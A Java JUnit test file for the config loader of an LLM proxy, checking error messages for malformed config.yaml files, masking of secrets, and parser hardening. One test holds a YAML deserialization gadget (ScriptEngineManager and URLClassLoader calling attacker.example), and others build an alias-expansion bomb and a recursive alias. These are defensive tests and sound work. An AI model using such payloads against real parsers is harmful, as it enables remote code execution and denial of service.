package io.junction.kernel.config;

import io.junction.spi.ConfigException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

import static io.junction.kernel.config.Configs.parseFails;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Configuration that cannot work stops startup with the key path, the value found and the fix. */
class ConfigErrorTest
{
    @Test
    void modelListThatIsNotAList()
    {
        ConfigException error = parseFails("""
                model_list:
                  model_name: gpt-4o
                """);

        assertEquals("model_list: expected a list of deployments but found a mapping. "
                + "Fix: write each deployment as a list item under model_list, starting with \"- model_name: ...\".", error.getMessage());
    }

    @Test
    void entryThatIsNotAMapping()
    {
        ConfigException error = parseFails("""
                model_list:
                  - gpt-4o
                """);

        assertEquals("model_list[0]", error.key());
        assertTrue(error.getMessage().contains("found 'gpt-4o'"), error.getMessage());
        assertTrue(error.getMessage().contains("Fix: write \"- model_name: <name>\""), error.getMessage());
    }

    @Test
    void rpmThatIsNotANumber()
    {
        ConfigException error = parseFails(models("""
                  - model_name: a
                    litellm_params: {model: openai/a}
                  - model_name: b
                    litellm_params: {model: openai/b}
                  - model_name: c
                    litellm_params:
                      model: openai/c
                      rpm: fast
                """));

        assertEquals("model_list[2].litellm_params.rpm", error.key());
        assertEquals("model_list[2].litellm_params.rpm: expected a whole number of requests per minute but found 'fast'. Fix: write rpm: 60.",
                error.getMessage());
    }

    @Test
    void negativeAndFractionalQuotas()
    {
        assertEquals("model_list[0].litellm_params.tpm: must not be negative but was -5. Fix: write tpm: 100000.",
                parseFails(models("  - model_name: a\n    litellm_params: {model: openai/a, tpm: -5}\n")).getMessage());
        assertEquals("model_list[0].litellm_params.rpm: expected a whole number of requests per minute but found number 1.5. Fix: write rpm: 60.",
                parseFails(models("  - model_name: a\n    litellm_params: {model: openai/a, rpm: 1.5}\n")).getMessage());
        assertEquals("model_list[0].litellm_params.weight: must be greater than zero but was 0. Fix: write weight: 2.",
                parseFails(models("  - model_name: a\n    litellm_params: {model: openai/a, weight: 0}\n")).getMessage());
        assertEquals("model_list[0].litellm_params.timeout: must be greater than zero but was -1. Fix: write timeout: 30 (seconds).",
                parseFails(models("  - model_name: a\n    litellm_params: {model: openai/a, timeout: -1}\n")).getMessage());
        assertEquals("model_list[0].model_info.output_cost_per_token: must not be negative but was -0.1. Fix: write output_cost_per_token: 0.0000025 (USD per token).",
                parseFails(models("  - model_name: a\n    litellm_params: {model: openai/a}\n    model_info: {output_cost_per_token: -0.1}\n")).getMessage());
        assertEquals("model_list[0].litellm_params.rpm: is too large: 1e40. Fix: write rpm: 60.",
                parseFails(models("  - model_name: a\n    litellm_params: {model: openai/a, rpm: \"1e40\"}\n")).getMessage());
    }

    @Test
    void missingRequiredValues()
    {
        assertEquals("model_list[0].model_name: is required but missing. Fix: add model_name: gpt-4o (the name clients send as \"model\").",
                parseFails(models("  - litellm_params: {model: openai/a}\n")).getMessage());
        assertEquals("model_list[0].litellm_params: is required but missing. "
                        + "Fix: add litellm_params: with at least model: openai/gpt-4o (provider/model name) indented below it.",
                parseFails(models("  - model_name: a\n")).getMessage());
        assertEquals("model_list[0].litellm_params.model: is required but missing. Fix: add model: openai/gpt-4o (provider/model name).",
                parseFails(models("  - model_name: a\n    litellm_params: {api_base: http://x}\n")).getMessage());
        assertEquals("model_list[0].litellm_params.model: is required but missing. Fix: add model: openai/gpt-4o (provider/model name).",
                parseFails(models("  - model_name: a\n    litellm_params: {model: os.environ/UNSET_MODEL}\n")).getMessage());
    }

    @Test
    void wrongTypesNameTheValueAndTheFix()
    {
        assertEquals("model_list[0].model_name: expected a string but found number 4. "
                        + "Fix: write model_name: gpt-4o (the name clients send as \"model\") (quote it if it looks like a number or true/false).",
                parseFails(models("  - model_name: 4\n    litellm_params: {model: openai/a}\n")).getMessage());
        assertEquals("model_list[0].litellm_params.model: 'openai/' has an empty provider or model name. Fix: write model: openai/gpt-4o (provider/model name).",
                parseFails(models("  - model_name: a\n    litellm_params: {model: openai/}\n")).getMessage());
        assertEquals("router_settings: expected a mapping (indented key: value lines) but found a list. "
                        + "Fix: write router_settings: with key: value lines indented below it.",
                parseFails("router_settings: [simple-shuffle]").getMessage());
        assertEquals("router_settings.num_retries: expected a whole number of retries but found 'three'. Fix: write num_retries: 2.",
                parseFails("router_settings: {num_retries: three}").getMessage());
        assertEquals("litellm_settings.drop_params: expected true or false but found 'sometimes'. Fix: write drop_params: true.",
                parseFails("litellm_settings: {drop_params: sometimes}").getMessage());
        assertEquals("litellm_settings.callbacks[1]: expected a name but found a mapping. Fix: write callbacks: [\"langfuse\", \"prometheus\"].",
                parseFails("litellm_settings: {callbacks: [langfuse, {x: 1}]}").getMessage());
        assertEquals("litellm_settings.cache_params: expected a mapping (indented key: value lines) but found 'redis'. "
                        + "Fix: write cache_params: with type: local indented below it.",
                parseFails("litellm_settings: {cache_params: redis}").getMessage());
        assertEquals("general_settings.max_request_size_mb: expected a number of megabytes but found 'big'. Fix: write max_request_size_mb: 32.",
                parseFails("general_settings: {max_request_size_mb: big}").getMessage());
    }

    @Test
    void secretValuesAreNeverEchoed()
    {
        ConfigException masterKey = parseFails("general_settings:\n  master_key: [sk-super-secret-value]\n");
        assertEquals("general_settings.master_key", masterKey.key());
        assertFalse(masterKey.getMessage().contains("sk-super-secret-value"), masterKey.getMessage());

        ConfigException apiKeyAsEntry = parseFails(models("  - sk-pasted-secret-key\n"));
        assertTrue(apiKeyAsEntry.getMessage().contains("sk-pasted-secret-key"), "a list item is not a secret key: shown to help find it");

        ConfigException badModelInfoId = parseFails(models("  - model_name: a\n    litellm_params: {model: openai/a}\n    model_info: {id: [x]}\n"));
        assertEquals("model_list[0].model_info.id", badModelInfoId.key());
    }

    @Test
    void topLevelThatIsNotAMapping()
    {
        ConfigException error = parseFails("- model_name: gpt-4o\n");

        assertEquals("config.yaml", error.key());
        assertTrue(error.getMessage().contains("found a list"), error.getMessage());
        assertTrue(error.getMessage().contains("Fix: start the file with model_list:"), error.getMessage());
    }

    @Test
    void yamlSyntaxErrorNamesFileLineAndColumn()
    {
        ConfigException error = parseFails("""
                model_list:
                  - model_name: gpt-4o
                    litellm_params:
                      model: openai/gpt-4o
                      api_key: "sk-unterminated-secret
                router_settings: {}
                """);

        assertEquals("config.yaml", error.key());
        assertTrue(error.getMessage().startsWith("config.yaml: invalid YAML at line "), error.getMessage());
        assertTrue(error.getMessage().contains("Fix: check the indentation"), error.getMessage());
        assertFalse(error.getMessage().contains("sk-unterminated-secret"), error.getMessage());
    }

    @Test
    void badIndentationPointsAtTheLine()
    {
        ConfigException error = parseFails("""
                model_list:
                  - model_name: gpt-4o
                    litellm_params:
                      model: openai/gpt-4o
                     rpm: 5
                """);

        assertTrue(error.getMessage().startsWith("config.yaml: invalid YAML at line 5, column 6: "), error.getMessage());
        assertTrue(error.getMessage().endsWith("around line 5."), error.getMessage());
    }

    @Test
    void duplicateKeysAreAnError()
    {
        ConfigException error = parseFails("""
                model_list:
                  - model_name: gpt-4o
                    litellm_params: {model: openai/gpt-4o}
                    litellm_params: {model: openai/gpt-4o-mini}
                """);

        assertTrue(error.getMessage().contains("duplicate key litellm_params"), error.getMessage());
        assertTrue(error.getMessage().contains("line 4"), error.getMessage());
    }

    @Test
    void arbitraryTypesAreNeverConstructed()
    {
        ConfigException error = parseFails("""
                model_list: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
                """);

        assertEquals("config.yaml", error.key());
        assertTrue(error.getMessage().contains("invalid YAML at line 1"), error.getMessage());
    }

    @Test
    void tooManyAliasesAreRefused()
    {
        StringBuilder yaml = new StringBuilder("base: &base [x]\nuses: [");
        for (int i = 0; i < 60; i++) {
            yaml.append("*base, ");
        }
        yaml.append("*base]\n");

        ConfigException error = parseFails(yaml.toString());

        assertEquals("config.yaml", error.key());
        assertTrue(error.getMessage().contains("aliases"), error.getMessage());
    }

    @Test
    void aliasExpansionBombIsRefused()
    {
        // 25 levels of two aliases each: 50 aliases (within snakeyaml's limit) that expand to 2^25 values
        StringBuilder yaml = new StringBuilder("l0: &l0 [lol, lol]\n");
        for (int level = 1; level <= 25; level++) {
            yaml.append("l").append(level).append(": &l").append(level).append(" [*l").append(level - 1).append(", *l").append(level - 1).append("]\n");
        }

        ConfigException error = parseFails(yaml.toString());

        assertTrue(error.getMessage().contains("expands to more than 1000000 values through YAML aliases"), error.getMessage());
    }

    @Test
    void hugeDocumentIsRefused()
    {
        ConfigException error = parseFails("general_settings: {x: \"" + "x".repeat(YamlDocument.MAX_CODE_POINTS) + "\"}\n");

        assertEquals("config.yaml", error.key());
        assertTrue(error.getMessage().startsWith("config.yaml: is longer than 2097152 characters"), error.getMessage());
    }

    @Test
    void recursiveAliasIsRefused()
    {
        ConfigException error = parseFails("""
                litellm_settings:
                  cache_params: &loop
                    again: *loop
                """);

        assertEquals("litellm_settings.cache_params.again", error.key());
        assertTrue(error.getMessage().contains("contains itself"), error.getMessage());
    }

    @Test
    void missingFile(@TempDir Path directory)
    {
        Path missing = directory.resolve("config.yaml");

        ConfigException error = assertThrows(ConfigException.class, () -> ConfigLoader.load(missing, Map.of()));

        assertEquals(missing.toString(), error.key());
        assertTrue(error.getMessage().contains("does not exist"), error.getMessage());
        assertTrue(error.getMessage().contains("Fix: pass the path of an existing config.yaml"), error.getMessage());
        ConfigException directoryError = assertThrows(ConfigException.class, () -> ConfigLoader.load(directory, Map.of()));
        assertTrue(directoryError.getMessage().contains("is a directory"), directoryError.getMessage());
    }

    @Test
    void fileThatIsNotUtf8(@TempDir Path directory)
            throws IOException
    {
        Path file = directory.resolve("config.yaml");
        Files.write(file, new byte[] {'a', ':', ' ', (byte) 0xC3, (byte) 0x28});

        ConfigException error = assertThrows(ConfigException.class, () -> ConfigLoader.load(file, Map.of()));

        assertEquals(file + ": is not UTF-8 text. Fix: save the file as UTF-8.", error.getMessage());
    }

    @Test
    void syntaxErrorInAFileNamesTheFile(@TempDir Path directory)
            throws IOException
    {
        Path file = directory.resolve("proxy_config.yaml");
        Files.writeString(file, "model_list:\n  - model_name: [unclosed\n");

        ConfigException error = assertThrows(ConfigException.class, () -> ConfigLoader.load(file, Map.of()));

        assertTrue(error.getMessage().startsWith(file + ": invalid YAML at line 3"), error.getMessage());
    }

    private static String models(String entries)
    {
        return "model_list:\n" + entries;
    }
}
